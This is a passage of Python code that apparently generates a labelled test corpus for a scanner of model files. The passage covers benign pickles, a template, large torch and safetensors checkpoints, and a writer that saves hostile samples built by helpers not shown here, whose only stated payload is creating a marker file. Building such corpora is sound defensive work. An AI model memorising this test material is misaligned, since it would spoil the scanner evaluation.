                b"{% if m.role == 'system' %}{% set ns.system = m.content %}{% endif %}"
                b"{% endfor %}{{ ns.system }}{% for m in messages %}{{ loop.index }}"
                b"{{ m.content }}{% endfor %}"
            ),
            False,
        ),
        (
            "seven_bytes.bin",
            "7 bytes named like a pickle that parse as none",
            b"(\xff\xfe\x00\x01\x02\x03",
            False,
        ),
        (
            "builtins_len.pkl",
            "a pickle that imports builtins.len",
            _P4 + _sg("builtins", "len") + b".",
            False,
        ),
        (
            "future_annotations.pkl",
            "a pickle that imports __future__.annotations",
            _P4 + _sg("__future__", "annotations") + b".",
            False,
        ),
    ]
    if large_mb > 0:
        n = large_mb * (1 << 20) // 4
        big = {f"layer{i}.weight": torch.randn(n // 8) for i in range(8)}
        out += [
            ("large_torch.pt", f"torch.save of a {large_mb} MiB state dict", tsave(big), True),
            ("large_model.safetensors", f"safetensors of {large_mb} MiB", st_save(big), True),
            (
                "large_legacy.pt",
                f"legacy torch.save of {large_mb} MiB",
                tsave(big, _use_new_zipfile_serialization=False),
                True,
            ),
            (
                "large_arrays.pkl",
                f"pickle.dumps of {large_mb} MiB of numpy arrays",
                pickle.dumps({k: v.numpy() for k, v in big.items()}, protocol=4),
                True,
            ),
        ]
    return out


def write_corpus(folder: Path, marker: Path, large_mb: int = 0) -> list[Sample]:
    """Write every sample under ``folder`` (created) and return their descriptions.

    Args:
        folder: Destination folder; one file per sample.
        marker: Path that hostile payloads would create if they were ever executed.
        large_mb: Size of the large benign checkpoints (0 to skip them).
    """
    folder.mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    for name, technique, data in _hostile_pickles(marker):
        (folder / name).write_bytes(data)
        samples.append(Sample(name, technique, True, CODE_EXEC))
    for category, name, technique, data in _hostile_containers(marker):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
        samples.append(Sample(name, technique, True, category))
    benign = folder / "benign"
    benign.mkdir(exist_ok=True)
    for name, technique, data, large in _benign(large_mb):
        (benign / name).write_bytes(data)
        samples.append(Sample(f"benign/{name}", technique, False, "", large))
    return samples
